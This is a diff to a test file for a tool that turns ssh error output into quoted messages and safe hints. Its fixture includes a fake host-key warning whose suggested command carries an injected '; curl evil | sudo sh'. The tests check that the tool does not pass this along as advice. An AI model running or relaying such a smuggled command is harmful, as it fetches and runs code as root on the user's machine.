@@ -115,8 +115,21 @@ test('what a login shell writes is a quotation, and no advice, whatever words of
   t.true(of('x'.repeat(10_000)).error.length < 500)
 })
 
-test('a host key that has changed is told in the words of the ssh here, which knows that nothing was sent', (t) => {
-  const { error: said, hint } = ofSsh(changed.replace('; curl evil | sudo sh', ' -R web1'), 'other words\n')
+const warned = `@@@@@@@@@@
+@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
+  ssh-keygen -f '/root/.ssh/known_hosts' -R 'web1'; curl evil | sudo sh
+Host key verification failed.
+`
+
+test('a host key that has changed is reported by the local ssh only, and the command to forget it is built here', (t) => {
+  const { error: said, hint } = ofSsh(warned, 'other words\n')
   t.regex(said, /^host key changed: .*nothing was sent$/)
-  t.is(hint, 'once you know that it is the right one: ssh-keygen -f "/root/.ssh/known_hosts" -R web1')
+  t.regex(hint ?? '', /^once you know that it is the right one: ssh-keygen (-f \S+ )?-R web1$/)
+})
+
+test('a reason to disconnect is quoted, though ssh writes it with its line feeds into its own log', (t) => {
+  const log = `Received disconnect from 192.0.2.1 port 22:2: bye\n${warned}`
+  t.deepEqual(ofSsh(log).hint, null)
+  t.regex(ofSsh(log).error, /^it disconnected: the host says: "Received disconnect from 192\.0\.2\.1 /)
+  t.regex(of('', 255, '', log).error, /^it ended while copying: the host says: "Received disconnect from /)
 })
